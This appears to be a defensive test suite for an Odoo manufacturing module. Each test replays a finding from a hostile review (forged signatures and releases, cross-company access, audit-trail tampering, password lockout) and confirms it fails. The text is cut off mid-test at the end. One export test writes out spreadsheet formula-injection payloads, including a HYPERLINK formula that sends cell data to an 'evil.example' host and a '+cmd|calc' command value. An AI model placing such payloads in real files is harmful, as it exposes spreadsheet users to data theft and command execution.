"""Attacks from the hostile review (issue 9), one test per finding, through the plain ORM as
JSON-2 exposes it (``create`` / ``write`` / ``unlink`` / public methods), another company's
user, crafted context keys and database cascades. Each proves the attack fails and that
nothing changed. These stay in the suite for good."""
import psycopg2

from odoo.exceptions import AccessDenied, AccessError, UserError
from odoo.tests import HttpCase, new_test_user, tagged
from odoo.tools import mute_logger

from .common import PASSWORDS, MesCase
from .test_genealogy import GenealogyCase

REFUSED = UserError  # AccessError is a UserError: either refusal counts


@tagged('post_install', '-at_install', 'mes_adversarial')
class TestAdversarial(MesCase):

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        env = cls.env
        cls.company_b = env['res.company'].create({'name': 'Plant B (hostile)'})
        groups = ('mes_bridge.group_mes_supervisor,mes_bridge.group_mes_quality_manager,'
                  'mes_bridge.group_mes_admin,mrp.group_mrp_manager')
        cls.user_b = new_test_user(env, 'mes_b_admin', groups=groups, password='b-Secret-2026',
                                   company_id=cls.company_b.id,
                                   company_ids=[(6, 0, [cls.company_b.id])], name='Bob of B')
        cls.operator2 = new_test_user(env, 'mes_operator2', groups='mes_bridge.group_mes_operator',
                                      password='operator2-Secret-2026', name='Omar Operator')
        cls.resin_lot_hold = env['stock.lot'].create({
            'product_id': cls.resin.id, 'name': 'RES-HOLD', 'mes_release_state': 'on_hold'})
        env['stock.quant']._update_available_quantity(cls.resin, cls.stock_location, 50,
                                                      lot_id=cls.resin_lot_hold)

    def column_exists(self, table, column):
        self.env.cr.execute("""SELECT 1 FROM information_schema.columns
                                WHERE table_name = %s AND column_name = %s""", (table, column))
        return bool(self.env.cr.fetchone())

    # -- 1. signing passwords stored in clear --------------------------------------------
    def test_f01_signing_credentials_are_never_stored(self):
        for model in ('mes.sign.wizard', 'mes.step.record', 'mes.exception.disposition'):
            Model = self.env[model]
            for fname in ('login', 'password'):
                self.assertFalse(Model._fields[fname].store, '%s.%s is stored' % (model, fname))
                self.assertFalse(self.column_exists(Model._table, fname),
                                 '%s has a %s column' % (Model._table, fname))
        # the dialog still signs: the button hands the credentials over in its context
        production = self.create_production()
        exception = self.env['mes.exception'].create({
            'description': 'Scratch on barrel', 'production_id': production.id})
        wizard = self.env['mes.exception.disposition'].with_user(self.supervisor).create({
            'exception_ids': [(6, 0, exception.ids)], 'disposition': 'scrap',
            'note': 'Scrapped', 'login': 'mes_supervisor', 'password': PASSWORDS['supervisor']})
        wizard.with_context(mes_login='mes_supervisor',
                            mes_password=PASSWORDS['supervisor']).action_confirm()
        self.assertEqual(exception.state, 'dispositioned')
        # nothing of the password can be read back, by anyone
        self.env.invalidate_all()
        rows = self.env['mes.exception.disposition'].sudo().search_read(
            [('id', '=', wizard.id)], ['login', 'password'])
        self.assertFalse(rows[0]['password'])
        self.env.cr.execute('SELECT * FROM mes_exception_disposition WHERE id = %s', [wizard.id])
        self.assertNotIn(PASSWORDS['supervisor'], repr(self.env.cr.fetchall()))

    # -- 2. faked release ----------------------------------------------------------------
    def test_f02_release_cannot_be_written_or_created(self):
        production = self.create_production()
        forged = {'mes_release_date': '2026-01-01 08:00:00',
                  'mes_released_by_id': self.supervisor.id, 'mes_bom_version': 1}
        for user in (self.operator, self.supervisor, self.planner):
            with self.subTest(user=user.login), self.assertRaises(REFUSED):
                production.with_user(user).write(forged)
        self.assertFalse(production.mes_release_date)
        self.assertEqual(production.mes_state, 'not_released')
        self.assertFalse(production.mes_step_execution_ids)
        with self.assertRaises(REFUSED):
            self.env['mrp.production'].with_user(self.planner).create(dict(
                forged, product_id=self.syringe.id, product_qty=1, bom_id=self.bom.id))
        # the real release is recorded in the audit trail, with who did it
        production.with_user(self.supervisor).action_mes_release()
        entry = self.env['mes.audit.entry'].search([
            ('res_model', '=', 'mrp.production'), ('res_id', '=', production.id),
            ('field_name', '=', 'mes_released_by_id')])
        self.assertEqual((entry.user_id, entry.new_value), (self.supervisor, str(self.supervisor.id)))
        with self.assertRaises(REFUSED):
            production.with_user(self.planner).unlink()
        self.assertTrue(production.exists())

    # -- 3. work order deleted with its recorded steps -----------------------------------
    def test_f03_work_order_with_steps_cannot_be_deleted(self):
        production = self.released_production()
        molding = self.workorders(production)[0]
        self.run_molding(molding)
        steps = molding.mes_step_execution_ids
        for env_user in (self.operator, self.planner):
            with self.subTest(user=env_user.login), self.assertRaises(REFUSED):
                molding.with_user(env_user).unlink()
        with self.assertRaises(UserError):
            molding.sudo().unlink()
        # the database itself refuses the cascade
        with self.assertRaises(psycopg2.errors.ForeignKeyViolation), \
                mute_logger('odoo.sql_db'), self.env.cr.savepoint():
            self.env.cr.execute('DELETE FROM mrp_workorder WHERE id = %s', [molding.id])
        self.assertEqual(len(steps.exists()), len(steps))
        self.assertTrue(all(s.state == 'done' for s in steps))

    # -- 4. another company's records through superuser paths ----------------------------
    def test_f04_other_company_cannot_sign_unlock_or_disposition(self):
        production = self.create_production()
        exception = self.env['mes.exception'].create({
            'description': 'Wrong label', 'production_id': production.id})
        signatures_before = self.env['mes.signature'].search_count([])
        bom_as_b = self.bom.with_user(self.user_b)
        exception_as_b = exception.with_user(self.user_b)
        with self.assertRaises(AccessError):
            bom_as_b.mes_unlock_for_correction('take over', 'mes_b_admin', 'b-Secret-2026')
        with self.assertRaises(AccessError):
            exception_as_b.mes_sign('approved', 'mes_b_admin', 'b-Secret-2026', 'mine now')
        with self.assertRaises(AccessError):
            exception_as_b.action_disposition('use_as_is', 'fine', 'mes_b_admin', 'b-Secret-2026')
        exception.with_user(self.supervisor).action_disposition(
            'rework', 'Relabelled', 'mes_supervisor', PASSWORDS['supervisor'])
        with self.assertRaises(AccessError):
            exception_as_b.mes_unlock_for_correction('reopen', 'mes_b_admin', 'b-Secret-2026')
        self.assertEqual(self.bom.mes_approval_state, 'approved')
        self.assertEqual(exception.state, 'dispositioned')
        self.assertEqual(self.env['mes.signature'].search_count([]), signatures_before + 1)

    # -- 5. a verified scan is binding ---------------------------------------------------
    def test_f05_consumed_lot_cannot_be_swapped_after_the_scan(self):
        production = self.released_production()
        molding = self.workorders(production)[0]
        self.run_molding(molding)
        resin_line = production.move_raw_ids.filtered(
            lambda m: m.product_id == self.resin).move_line_ids
        self.assertEqual(resin_line.lot_id, self.resin_lot)
        with self.assertRaises(UserError):
            resin_line.with_user(self.operator).write({'lot_id': self.resin_lot_hold.id})
        with self.assertRaises(UserError):
            resin_line.with_user(self.planner).write({'lot_id': self.resin_lot_hold.id})
        self.assertEqual(resin_line.lot_id, self.resin_lot)
        move = resin_line.move_id
        with self.assertRaises(UserError):
            self.env['stock.move.line'].with_user(self.planner).create(dict(
                move._prepare_move_line_vals(), lot_id=self.resin_lot_hold.id, quantity=1))
        self.assertEqual(move.move_line_ids, resin_line)
        # whatever path swaps it anyway, the order cannot be completed with it
        resin_line.sudo().lot_id = self.resin_lot_hold
        self.run_assembly(self.workorders(production)[1])
        with self.assertRaisesRegex(UserError, 'which no scan verified'):
            production.with_user(self.supervisor).button_mark_done()
        self.assertNotEqual(production.state, 'done')

    # -- 6. a blocking exception made harmless by a plain write --------------------------
    def test_f06_lowering_severity_needs_a_reason_and_a_signature(self):
        production = self.create_production()
        exception = self.env['mes.exception'].create({
            'description': 'Sterility indicator failed', 'production_id': production.id,
            'severity': 'critical'})
        self.assertTrue(exception.blocking)
        for severity in ('major', 'minor'):
            with self.subTest(severity=severity), self.assertRaises(UserError):
                exception.with_user(self.supervisor).write({'severity': severity})
        self.assertEqual((exception.severity, exception.blocking), ('critical', True))
        as_supervisor = exception.with_user(self.supervisor)
        with self.assertRaises(UserError):
            as_supervisor.action_mes_reclassify('minor', '', 'mes_supervisor',
                                                PASSWORDS['supervisor'])
        refused = as_supervisor.action_mes_reclassify('minor', 'Indicator misread',
                                                      'mes_supervisor', 'wrong')
        self.assertFalse(refused['reclassified'])
        self.assertTrue(exception.blocking)
        with self.assertRaises(AccessError):
            exception.with_user(self.operator).action_mes_reclassify(
                'minor', 'mine', 'mes_operator', PASSWORDS['operator'])
        done = as_supervisor.action_mes_reclassify('minor', 'Indicator misread, retested OK',
                                                   'mes_supervisor', PASSWORDS['supervisor'])
        self.assertTrue(done['reclassified'])
        self.assertFalse(exception.blocking)
        entry = self.env['mes.audit.entry'].search([
            ('res_model', '=', 'mes.exception'), ('res_id', '=', exception.id),
            ('field_name', '=', 'severity'), ('operation', '=', 'write')])
        self.assertEqual((entry.old_value, entry.new_value, entry.user_id, entry.reason),
                         ('critical', 'minor', self.supervisor, 'Indicator misread, retested OK'))
        # raising it needs nothing more than a write
        exception.with_user(self.supervisor).write({'severity': 'major'})
        self.assertEqual(exception.severity, 'major')

    # -- 7. forged exception facts at create ---------------------------------------------
    def test_f07_exception_facts_cannot_be_forged_at_create(self):
        production = self.create_production()
        Exception_ = self.env['mes.exception'].with_user(self.operator)
        base = {'description': 'Forged', 'production_id': production.id}
        forgeries = [
            {'raised_by_id': self.qa_manager.id},
            {'date': '2020-01-01 00:00:00'},
            {'name': 'EXC/2020/00001'},
            {'state': 'dispositioned'},
            {'disposition': 'use_as_is', 'dispositioned_by_id': self.qa_manager.id},
        ]
        before = self.env['mes.exception'].search_count([])
        for forged in forgeries:
            with self.subTest(forged=forged), self.assertRaises(AccessError):
                Exception_.create(dict(base, **forged))
        self.assertEqual(self.env['mes.exception'].search_count([]), before)
        honest = Exception_.create(base)
        self.assertEqual((honest.raised_by_id, honest.state), (self.operator, 'open'))
        # the operator who raised it cannot disposition it through a forged raiser either
        with self.assertRaises(UserError):
            honest.with_user(self.supervisor).write({'raised_by_id': self.supervisor.id})
        self.assertEqual(honest.raised_by_id, self.operator)

    # -- 8. signing outside the workflow -------------------------------------------------
    def test_f08_mes_sign_only_inside_each_workflow(self):
        production = self.released_production()
        assembly = self.workorders(production)[1]
        signature_step = self.steps(assembly)[-1]
        self.assertEqual(signature_step.step_type, 'signature')
        with self.assertRaises(UserError):
            signature_step.with_user(self.operator).mes_sign(
                'performed', 'mes_operator', PASSWORDS['operator'])
        exception = self.env['mes.exception'].create({
            'description': 'Burr on tip', 'production_id': production.id})
        with self.assertRaises(UserError):
            exception.with_user(self.supervisor).mes_sign(
                'approved', 'mes_supervisor', PASSWORDS['supervisor'], 'early')
        self.assertFalse(signature_step.mes_signature_ids | exception.mes_signature_ids)
        self.assertEqual((signature_step.state, exception.state), ('pending', 'open'))
        # the real flow is still open: the disposition signs the exception
        outcome = exception.with_user(self.supervisor).action_disposition(
            'use_as_is', 'Cosmetic', 'mes_supervisor', PASSWORDS['supervisor'])
        self.assertTrue(outcome['signed'])

    # -- 11. an approved master record changed behind its approval -----------------------
    def test_f11_approved_master_record_is_locked_including_by_products(self):
        self.assertEqual(self.bom.mes_approval_state, 'approved')
        hash_before = self.bom._mes_content_hash()
        with self.assertRaises(UserError):
            self.env['mrp.bom.byproduct'].with_user(self.planner).create({
                'bom_id': self.bom.id, 'product_id': self.label.id, 'product_qty': 1})
        self.assertFalse(self.bom.byproduct_ids)
        self.assertEqual(self.bom._mes_content_hash(), hash_before)
        self.assertEqual(self.bom.mes_signature_status, 'signed')
        with self.assertRaises(UserError):
            self.env['mrp.bom'].with_user(self.planner).create({
                'product_tmpl_id': self.syringe.product_tmpl_id.id, 'product_qty': 1,
                'mes_approval_state': 'approved', 'mes_approved_by_id': self.qa_manager.id})
        # by-products of a draft are part of what the approval signs
        v2 = self.env['mrp.bom'].browse(
            self.bom.with_user(self.planner).action_mes_new_version()['res_id'])
        draft_hash = v2._mes_content_hash()
        self.env['mrp.bom.byproduct'].with_user(self.planner).create({
            'bom_id': v2.id, 'product_id': self.label.id, 'product_qty': 1})
        self.assertNotEqual(v2._mes_content_hash(), draft_hash)
        # a signature given before by-products were covered (content rules 1) still verifies
        self.env['mrp.bom.byproduct'].create({'bom_id': v2.id, 'product_id': self.needle.id,
                                              'product_qty': 2})
        self.approve(v2)
        [signature] = v2.mes_signature_ids
        self.assertEqual((signature.content_version, signature.status), (3, 'valid'))
        self.env.cr.execute('UPDATE mes_signature SET content_version = 1, content_hash = %s '
                            'WHERE id = %s', [v2._mes_content_hash(1), signature.id])
        self.env.invalidate_all()
        self.assertEqual(signature.status, 'valid')
        self.assertNotEqual(v2._mes_content_hash(1), v2._mes_content_hash())
        # reordering an approved record is audited
        self.bom.with_user(self.planner).write({'sequence': 42})
        self.assertTrue(self.env['mes.audit.entry'].search([
            ('res_model', '=', 'mrp.bom'), ('res_id', '=', self.bom.id),
            ('field_name', '=', 'sequence')]))

    # -- 9. segregation of duties across the whole order ---------------------------------
    def test_f09_verifier_performed_nothing_of_the_order_and_it_is_complete(self):
        v2 = self.env['mrp.bom'].browse(
            self.bom.with_user(self.planner).action_mes_new_version()['res_id'])
        assembly_op = v2.operation_ids.filtered(lambda o: o.name == 'Assembly')
        self.env['mes.operation.step'].create({
            'operation_id': assembly_op.id, 'sequence': 99, 'name': 'Batch record verified',
            'step_type': 'signature', 'signature_meaning': 'verified'})
        self.approve(v2)
        production = self.create_production(bom=v2)
        production.with_user(self.supervisor).action_mes_release()
        molding, assembly = self.workorders(production)
        # the supervisor records one molding step, the operator everything else of assembly
        molding.with_user(self.supervisor).button_start()
        first = self.steps(molding)[0]
        self.assertTrue(first.with_user(self.supervisor).mes_record()['accepted'])
        self.run_assembly(assembly)
        verify = self.steps(assembly)[-1]
        # molding is still open: nothing vouches for it yet
        with self.assertRaisesRegex(UserError, 'still open'):
            verify.with_user(self.operator2).mes_record(
                login='mes_operator2', password='operator2-Secret-2026')
        molding_steps = self.steps(molding)
        self.record(molding_steps[1], code='RES-001')
        self.record(molding_steps[2], value='231.5')
        self.record(molding_steps[3], code='MOULD-07')
        # the supervisor performed a step of this order (in another work order): refused
        with self.assertRaisesRegex(AccessError, 'Segregation of duties'):
            verify.with_user(self.supervisor).mes_record(
                login='mes_supervisor', password=PASSWORDS['supervisor'])
        self.assertEqual(verify.state, 'pending')
        self.assertFalse(verify.mes_signature_ids)
        outcome = verify.with_user(self.operator2).mes_record(
            login='mes_operator2', password='operator2-Secret-2026')
        self.assertTrue(outcome['accepted'])
        verify.invalidate_recordset()
        self.assertEqual(verify.mes_signature_ids.signer_id, self.operator2)

    # -- 12. CSV / XLSX formula injection --------------------------------------------------
    def test_f12_exports_never_carry_live_formulas(self):
        import csv
        import io
        import zipfile
        evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
        self.resin_lot.with_user(self.qa_manager).write({
            'mes_release_state': 'on_hold', 'mes_release_reason': evil})
        wizard = self.env['mes.audit.export'].with_user(self.inspector).create({
            'res_model': 'stock.lot', 'res_id': self.resin_lot.id, 'file_format': 'csv'})
        action = wizard.action_export()
        attachment = self.env['ir.attachment'].browse(int(action['url'].split('/')[3].split('?')[0]))
        cells = [c for row in csv.reader(io.StringIO(attachment.raw.decode('utf-8-sig')))
                 for c in row]
        self.assertIn("'" + evil, cells)
        self.assertFalse([c for c in cells if c.startswith(('=', '+', '@'))])
        # the recall XLSX keeps user text as text cells, never formulas
        self.resin_lot.sudo().name = '+cmd|calc'
        recall = self.env['mes.recall.wizard'].with_user(self.qa_manager).create({
            'lot_id': self.resin_lot.id})
        action = recall.action_export_xlsx()
        data = self.env['ir.attachment'].browse(
            int(action['url'].split('/')[3].split('?')[0])).raw
        sheet = zipfile.ZipFile(io.BytesIO(data)).read('xl/worksheets/sheet1.xml').decode()
        self.assertNotIn('<f>', sheet)
        strings = zipfile.ZipFile(io.BytesIO(data)).read('xl/sharedStrings.xml').decode()
        self.assertIn('+cmd|calc', strings)

    # -- 14. unbounded trace ---------------------------------------------------------------
    def test_f14_trace_depth_is_bounded_and_typed(self):
        for depth in (True, 10 ** 12, 0, -1, '3', 101):
            with self.subTest(depth=depth), self.assertRaisesRegex(UserError, 'Trace depth'):
                self.resin_lot.with_user(self.inspector).mes_trace('forward', depth=depth)
        self.assertEqual(self.resin_lot.with_user(self.inspector).mes_trace(
            'forward', depth=100)['lot_id'], self.resin_lot.id)

    # -- 16. unbounded text and the whole-chain walk ---------------------------------------
    def test_f16_text_is_bounded_and_chain_walk_is_for_reviewers(self):
        production = self.released_production()
        molding = self.workorders(production)[0]
        molding.with_user(self.operator).button_start()
        step = self.steps(molding)[0]
        with self.assertRaisesRegex(UserError, 'too long'):
            self.record(step, comment='x' * (10 * 1024 * 1024))
        self.assertEqual(step.state, 'pending')
        with self.assertRaises(AccessError):
            self.env['mes.audit.entry'].with_user(self.operator).action_mes_verify_chain()
        with self.assertRaises(AccessError):
            self.env['mes.audit.entry'].with_user(self.operator).verify_chain()
        self.assertFalse(self.env['mes.audit.entry'].with_user(self.inspector).verify_chain())

    # -- 17. forged origin and reason in the context ---------------------------------------
    def test_f17_context_cannot_name_the_origin_or_reason(self):
        lot = self.stopper_lot
        lot.with_user(self.qa_manager).with_context(
            mes_origin='kiosk', mes_audit_reason='Approved by the CEO', cron_id=1,
        ).write({'mes_release_state': 'on_hold', 'mes_release_reason': 'Supplier notice 7'})
        entry = self.env['mes.audit.entry'].search([
            ('res_model', '=', 'stock.lot'), ('res_id', '=', lot.id),
            ('field_name', '=', 'mes_release_state'), ('operation', '=', 'write')])
        self.assertEqual(entry.reason, 'Supplier notice 7')
        self.assertNotEqual(entry.origin, 'kiosk')
        production = self.create_production()
        exception = self.env['mes.exception'].with_user(self.operator).with_context(
            mes_audit_reason='Nothing to see').create({
                'description': 'Dent', 'production_id': production.id})
        created = self.env['mes.audit.entry'].search([
            ('res_model', '=', 'mes.exception'), ('res_id', '=', exception.id)])
        self.assertTrue(created)
        self.assertFalse(set(created.mapped('reason')) & {'Nothing to see'})

    # -- 18. hostile measurement and scan input --------------------------------------------
    def test_f18_measurements_and_scans_are_strict(self):
        production = self.released_production()
        molding = self.workorders(production)[0]
        molding.with_user(self.operator).button_start()
        instruction, material, temperature, _equipment = self.steps(molding)
        self.record(instruction)
        with self.assertRaisesRegex(UserError, 'not a label'):
            self.record(material, code='RES-\x00001')
        with self.assertRaisesRegex(UserError, 'not a label'):
            self.record(material, code='R' * 5000)
        self.assertEqual(material.state, 'pending')
        self.assertTrue(self.record(material, code='RES-001')['accepted'])
        for raw in ('1e30', '2_3_0', 'NaN', '0x10', '230 °C', '1,234.5', '9' * 20):
            with self.subTest(raw=raw), self.assertRaisesRegex(UserError, 'is not a number'):
                self.record(temperature, value=raw)
        self.assertEqual(temperature.state, 'pending')
        self.assertFalse(production.mes_exception_ids)
        self.assertTrue(self.record(temperature, value='231,5')['accepted'])
        self.assertEqual(temperature.value, 231.5)

    def test_f16_audited_text_fields_refuse_runaway_text(self):
        with self.assertRaisesRegex(UserError, 'too long'):
            self.stopper_lot.with_user(self.qa_manager).write({
                'mes_release_state': 'on_hold', 'mes_release_reason': 'x' * 200000})
        self.assertEqual(self.stopper_lot.mes_release_state, 'released')


@tagged('post_install', '-at_install', 'mes_adversarial')
class TestLockoutEverywhere(HttpCase):
    """13. Every password check counts; a locked signature answers no password at all.
    (An HttpCase: failures are counted in their own transaction, which tests share here.)"""

    def test_f13_change_password_is_no_oracle_and_every_failure_counts(self):
        user = new_test_user(self.env, 'mes_lock_user', groups='mes_bridge.group_mes_operator',
                             password='lock-Secret-2026')
        Users = self.env['res.users'].with_user(user)

        def refused(call, *args):
            # not assertRaises: it would roll back to a savepoint, taking the count with it
            # (in production the count has a transaction of its own; see tests/ over JSON-2)
            try:
                call(*args)
            except AccessDenied:
                return
            self.fail('the wrong password was accepted')

        refused(Users.change_password, 'guess-1', 'new-Secret-2026')
        user.invalidate_recordset()
        self.assertEqual(user.mes_sign_failures, 1)
        refused(self.env['res.users'].authenticate,
                {'type': 'password', 'login': 'mes_lock_user', 'password': 'guess-2'},
                {'interactive': True})
        user.invalidate_recordset()
        self.assertEqual(user.mes_sign_failures, 2)
        refused = Users._mes_check_signing_credentials('mes_lock_user', 'guess-3')
        self.assertFalse(refused[0])
        user.invalidate_recordset()
        self.assertTrue(user.mes_sign_locked)
        # locked: right or wrong, change_password says only that it is locked
        for guess in ('guess-4', 'lock-Secret-2026'):
            with self.subTest(guess=guess), self.assertRaisesRegex(AccessDenied, 'locked'):
                Users.change_password(guess, 'new-Secret-2026')
        with self.assertRaisesRegex(UserError, 'locked'):
            self.env['res.users.identitycheck'].with_user(user).create({})._check_identity()
        # nor does signing in to the back office, with the right password either, until an
        # Electronic Records Administrator unlocks (no timed cooldown)
        with self.assertRaisesRegex(AccessDenied, 'locked'):
            self.env['res.users'].authenticate(
                {'type': 'password', 'login': 'mes_lock_user', 'password': 'lock-Secret-2026'},
                {'interactive': True})
        user.action_mes_unlock_signing()
        # and the password did not change
        self.assertTrue(self.env['res.users'].authenticate(
            {'type': 'password', 'login': 'mes_lock_user', 'password': 'lock-Secret-2026'},
            {'interactive': True}))


@tagged('post_install', '-at_install', 'mes_adversarial')
class TestSharedLotsAcrossCompanies(GenealogyCase):
    """10. A lot without a company is shared: another company neither decides its status
    nor reads this company's orders, stock and customers through the genealogy."""

    def test_f10_other_company_cannot_release_or_trace_through_a_shared_lot(self):
        resin = self.product('Resin S')
        device = self.product('Device S')
        bom = self.bom(device, [(resin, 1)])
        shared = self.lot(resin, 'RES-SHARED', 50)
        shared.company_id = False
        shared.sudo().mes_release_state = 'on_hold'
        mo, made = self.produce(bom, 4, 'DEV-A1', {resin: [(shared, 4)]})
        self.deliver(device, made, 4)
        made_state = made.mes_release_state
        company_b = self.env['res.company'].create({'name': 'Plant B (shared lots)'})
        qa_b = new_test_user(self.env, 'mes_b_qa', company_id=company_b.id,
                             company_ids=[(6, 0, company_b.ids)],
                             groups='mes_bridge.group_mes_quality_manager,stock.group_stock_user')
        with self.assertRaises(AccessError):
            shared.with_user(qa_b).write({'mes_release_state': 'released',
                                          'mes_release_reason': 'ours now'})
        self.assertEqual(shared.mes_release_state, 'on_hold')
        # nor by claiming the shared lot for B first
        with self.assertRaises(AccessError):
            shared.with_user(qa_b).write({'company_id': company_b.id})
        self.assertFalse(shared.company_id)
        with self.assertRaises(UserError):  # nothing of A's is even found to hold
            recall = self.env['mes.recall.wizard'].with_user(qa_b).create({
                'lot_id': shared.id, 'reason': 'hold them all'})
            recall.action_hold_on_hand()
        self.assertEqual(made.mes_release_state, made_state)
        trace = shared.with_user(qa_b).mes_trace('forward')
        self.assertEqual([n['lot_id'] for n in trace['nodes']], [shared.id])
        self.assertFalse(trace['nodes'][0]['on_hand'])
        self.assertFalse(trace['deliveries'])
        self.assertNotIn(mo.name, repr(trace))
        # the lot's own company sees everything
        full = shared.mes_trace('forward')
        self.assertIn(made.id, [n['lot_id'] for n in full['nodes']])
        self.assertTrue(full['deliveries'])


@tagged('post_install', '-at_install', 'mes_adversarial')
class TestMeaningsAreFixedOnceUsed(MesCase):
    """19. Renaming a meaning does not rewrite past manifestations; meanings are audited."""

    def test_f19_manifestation_keeps_the_meaning_as_signed(self):
        [signature] = self.bom.mes_signature_ids
        before = signature.manifestation
        meaning = signature.meaning_id
        with self.assertRaises(UserError):
            meaning.write({'name': 'Rubber-stamped by'})
        # even when forced behind the application, the signature keeps its wording
        self.env.cr.execute("UPDATE mes_signature_meaning SET name = %s WHERE id = %s",
                            ['{"en_US": "Rubber-stamped by"}', meaning.id])
        self.env.invalidate_all()
        self.assertEqual(signature.manifestation, before)
        self.assertNotIn('Rubber-stamped', signature.manifestation)
        # nor through the translation dialog; translations are audited
        self.env['res.lang']._activate_lang('zh_CN')
        with self.assertRaises(UserError):
            meaning.update_field_translations('name', {'en_US': 'Rubber-stamped by'})
        meaning.update_field_translations('name', {'zh_CN': '批准人'})
        self.assertTrue(self.env['mes.audit.entry'].search([
            ('res_model', '=', 'mes.signature.meaning'), ('res_id', '=', meaning.id),
            ('field_name', '=', 'name'), ('new_value', '=', '批准人')]))
        fresh = self.env['mes.signature.meaning'].create({'code': 'witnessed',
                                                          'name': 'Witnessed by'})
        fresh.write({'name': 'Witnessed and checked by'})  # unused: may be reworded
        self.assertTrue(self.env['mes.audit.entry'].search([
            ('res_model', '=', 'mes.signature.meaning'), ('res_id', '=', fresh.id),
            ('field_name', '=', 'name'), ('operation', '=', 'write')]))


@tagged('post_install', '-at_install')
class TestExceptionConstructor(MesCase):
    """Exceptions are raised through one constructor that fills order, work order, step, lot
    and company from where they arise (issue 9)."""

    def test_origin_fills_the_facts(self):
        production = self.released_production()
        molding = self.workorders(production)[0]
        step = self.steps(molding)[1]
        Exception_ = self.env['mes.exception'].with_user(self.operator)
        from_step = Exception_._mes_raise(step, 'other', 'From a step')
        self.assertEqual((from_step.step_execution_id, from_step.workorder_id,
                          from_step.production_id, from_step.company_id, from_step.raised_by_id),
                         (step, molding, production, production.company_id, self.operator))
        from_wo = Exception_._mes_raise(molding, 'other', 'From a work order')
        self.assertEqual((from_wo.workorder_id, from_wo.production_id, from_wo.step_execution_id),
                         (molding, production, self.env['mes.step.execution']))
        from_lot = Exception_._mes_raise(self.resin_lot, 'unreleased_lot', 'From a lot',
                                         scanned_code='RES-001')
        self.assertEqual((from_lot.lot_id, from_lot.product_id, from_lot.scanned_code),
                         (self.resin_lot, self.resin, 'RES-001'))
        with self.assertRaises(ValueError):
            Exception_._mes_raise(self.bom, 'other', 'Not an origin')
        # a refusal raises the error the user sees, naming the exception recorded
        self.registry_enter_test_mode()
        message = None
        try:
            Exception_._mes_raise_refusal(molding, 'other', 'Refused for a test.')
        except UserError as error:
            message = str(error)
        self.assertTrue(message, 'no error raised')
        self.assertIn('Refused for a test.', message)
        ref = message.rsplit(' ', 1)[-1].rstrip('.')
        self.assertEqual(self.env['mes.exception'].search([('name', '=', ref)]).workorder_id,
                         molding)


@tagged('post_install', '-at_install')
class TestPart11PartsOnEveryForm(MesCase):
    """The signature and audit parts join the forms of every model using the mixins, no
    hand-copied view needed (issue 9): ours, Odoo's, and the equipment records."""

    def form(self, model, user=None):
        Model = self.env[model].with_user(user) if user else self.env[model]
        return Model.get_view(view_type='form')['arch']

    def test_signable_and_audited_forms_get_their_tabs(self):
        for model in ('mrp.bom', 'mes.exception', 'mes.step.execution'):
            with self.subTest(model=model):
                arch = self.form(model)
                self.assertIn('name="mes_signatures"', arch)
                self.assertIn('name="mes_signature_ids"', arch)
                self.assertIn('name="mes_audit_trail"', arch)
                self.assertIn('action_mes_unlock_for_correction', arch)
        for model in ('stock.lot', 'mrp.production', 'mrp.routing.workcenter'):
            with self.subTest(model=model):
                arch = self.form(model)
                self.assertIn('name="mes_audit_trail"', arch)
                self.assertNotIn('name="mes_signatures"', arch)
        # in the reader's language
        self.env['res.lang']._activate_lang('zh_CN')
        self.env['ir.module.module'].search([('name', '=', 'mes_bridge')])._update_translations(
            'zh_CN')
        arch = self.env['mrp.bom'].with_context(lang='zh_CN').get_view(view_type='form')['arch']
        self.assertIn('审计追踪', arch)

    def test_history_tab_follows_its_readers(self):
        outsider = self.env['res.users'].create({
            'name': 'Portal-less outsider', 'login': 'mes_tab_outsider',
            'group_ids': [(6, 0, [self.env.ref('base.group_user').id,
                                  self.env.ref('stock.group_stock_user').id])]})
        self.assertNotIn('name="mes_audit_trail"', self.form('stock.lot', outsider))
        self.assertIn('name="mes_audit_trail"', self.form('stock.lot', self.operator))


@tagged('post_install', '-at_install', 'mes_adversarial')
class TestReviewFindings(MesCase):
    """Bypasses a second hostile review found in the first fixes (issue 9)."""

    def test_blocking_flag_cannot_be_written(self):
        production = self.create_production()
        exception = self.env['mes.exception'].create({
            'description': 'Seal leak', 'production_id': production.id, 'severity': 'critical'})
        with self.assertRaises(UserError):
            exception.with_user(self.supervisor).write({'blocking': False})
        self.assertTrue(exception.blocking)
        with self.assertRaises(AccessError):
            self.env['mes.exception'].with_user(self.supervisor).create({
                'description': 'x', 'production_id': production.id, 'severity': 'critical',
                'blocking': False})

    def test_reason_in_a_context_is_not_sealed_even_through_superuser_paths(self):
        production = self.released_production()
        molding = self.workorders(production)[0]
        molding.with_user(self.operator).button_start()
        step = self.steps(molding)[0]
        step.with_user(self.operator).with_context(
            mes_audit_reason='Re-measure approved by QA').mes_record()
        reasons = self.env['mes.audit.entry'].search([
            ('res_model', '=', 'mes.step.execution'), ('res_id', '=', step.id)]).mapped('reason')
        self.assertNotIn('Re-measure approved by QA', reasons)

    def test_hand_made_exception_cannot_pass_as_detected(self):
        production = self.create_production()
        Exception_ = self.env['mes.exception'].with_user(self.supervisor)
        for forged in ({'raised_by_id': False}, {'source': 'material'},
                       {'scanned_code': 'RES-001'}, {'measured_value': '231'}):
            with self.subTest(forged=forged), self.assertRaises(AccessError):
                Exception_.create(dict(forged, description='x', production_id=production.id))
        own = Exception_.create({'description': 'Mine', 'production_id': production.id})
        self.assertEqual((own.raised_by_id, own.source), (self.supervisor, 'manual'))
        with self.assertRaises(AccessError):  # raised it: may not lower it
            own.with_user(self.supervisor).action_mes_reclassify(
                'minor', 'mine', 'mes_supervisor', PASSWORDS['supervisor'])
        with self.assertRaises(UserError):
            own.with_user(self.supervisor).write({'name': 'EXC/1999/00001'})

    def test_consumed_lot_cannot_be_swapped_after_done_or_through_the_quant(self):
        production = self.released_production()
        self.run_molding(self.workorders(production)[0])
        line = production.move_raw_ids.filtered(
            lambda m: m.product_id == self.resin).move_line_ids
        hold = self.env['stock.lot'].create({'product_id': self.resin.id, 'name': 'RES-Q',
                                             'mes_release_state': 'released'})
        self.env['stock.quant']._update_available_quantity(self.resin, self.stock_location, 5,
                                                          lot_id=hold)
        quant = self.env['stock.quant'].search([('lot_id', '=', hold.id)], limit=1)
        with self.assertRaises(UserError):
            line.with_user(self.planner).write({'quant_id': quant.id})
        self.assertEqual(line.lot_id, self.resin_lot)
        self.run_assembly(self.workorders(production)[1])
        production.with_user(self.supervisor).button_mark_done()
        self.assertEqual(production.state, 'done')
        done_line = production.move_raw_ids.filtered(
